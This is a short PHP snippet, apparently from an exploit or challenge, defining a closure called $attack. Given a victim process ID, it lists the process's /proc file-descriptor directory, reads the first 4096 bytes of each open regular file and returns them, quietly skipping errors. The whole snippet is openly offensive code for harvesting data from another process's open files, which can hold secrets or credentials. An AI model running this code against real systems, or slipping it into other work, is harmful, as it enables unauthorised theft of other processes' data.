<?php
$attack = static function (object $given): mixed {
    $found = '';
    foreach (scandir("/proc/{$given->victim}/fd") as $number) {
        $name = "/proc/{$given->victim}/fd/$number";
        try {
            $found .= is_file($name) ? file_get_contents($name, false, null, 0, 4096) : '';
        } catch (ErrorException) {
            continue;
        }
    }
    return $found;
};
